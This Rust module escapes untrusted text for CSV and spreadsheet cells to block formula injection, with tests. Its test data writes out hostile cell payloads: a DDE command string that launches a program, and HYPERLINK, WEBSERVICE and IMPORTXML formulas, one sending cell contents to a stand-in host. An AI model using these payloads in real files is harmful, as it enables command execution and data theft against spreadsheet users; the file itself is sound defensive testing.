//! Text of strangers in the cells of a spreadsheet.

use std::borrow::Cow;

/// What makes a spreadsheet take a cell for a formula or a command, also in the wide forms of East Asian keyboards.
const ACTIVE: [char; 16] =
    ['=', '+', '-', '@', '|', '%', '＝', '＋', '－', '＠', '｜', '％', '﹢', '﹣', '﹦', '﹫'];

/// A cell that every spreadsheet shows as text.
///
/// Programs that open CSV or XLSX run a cell which begins with `=`, `+`, `-` or `@`, some also when spaces or
/// invisible characters stand before it. Such a cell gets an apostrophe in front, the spreadsheets' own mark for
/// text; this also holds for numbers with a sign, because `-1+cmd|…` begins like one. NUL is dropped. A CSV file
/// must quote every field (`csv::QuoteStyle::Always`), or a `;` inside a cell begins a new one where the reader's
/// country separates with it; [`row`] shows how.
pub fn cell(text: &str) -> Cow<'_, str> {
    let text = if text.contains('\0') { Cow::Owned(text.replace('\0', "")) } else { Cow::Borrowed(text) };
    let first = text.chars().find(|&c| !is_unseen(c));
    let begins_with_control = text.starts_with(['\t', '\r', '\n']);
    if begins_with_control || first.is_some_and(|c| ACTIVE.contains(&c)) {
        Cow::Owned(format!("'{text}"))
    } else {
        text
    }
}

/// One line of a CSV file, with every cell quoted and none active, ended by CR LF (RFC 4180).
pub fn row<'a>(cells: impl IntoIterator<Item = &'a str>) -> String {
    let cells: Vec<String> =
        cells.into_iter().map(|text| format!("\"{}\"", cell(text).replace('"', "\"\""))).collect();
    format!("{}\r\n", cells.join(","))
}

/// Spaces, controls, and what draws nothing: byte order marks, joiners, marks of direction, tags.
fn is_unseen(c: char) -> bool {
    c.is_whitespace()
        || c.is_control()
        || matches!(c,
            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
            | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}'
            | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e0fff}')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_beginning_makes_a_cell_active() {
        let bodies = [
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://a.example/?\"&A1)",
            "1+1",
            "SUM(1)*cmd",
            "WEBSERVICE(A1)",
            "IMPORTXML(A1)",
            "",
        ];
        let before =
            ["", " ", "\t", "\r", "\n", "\u{feff}", "\u{200b}\u{200f}", "\u{a0}", "\0", "\u{202e}\0 "];
        let mut tried = 0;
        for mark in ACTIVE {
            for lead in before {
                for body in bodies {
                    let safe = cell(&format!("{lead}{mark}{body}")).into_owned();
                    assert!(safe.starts_with('\''), "{lead:?}{mark}{body}");
                    tried += 1;
                }
            }
        }
        assert!(tried >= 1_000, "{tried}");
        assert!(cell("\tDDE").starts_with('\''));
    }

    #[test]
    fn ordinary_text_stays_as_it_is() {
        for text in ["", "你好", "order 5-6", "a=b", "me@example.com", "3.5", "'quoted'", "100%", "“=1”"]
        {
            assert_eq!(cell(text), text);
        }
    }

    #[test]
    fn a_row_cannot_be_left_through_quotes_or_separators() {
        assert_eq!(row(["a\"b", "x;=1", "=1", "l1\nl2"]), "\"a\"\"b\",\"x;=1\",\"'=1\",\"l1\nl2\"\r\n");
    }
}
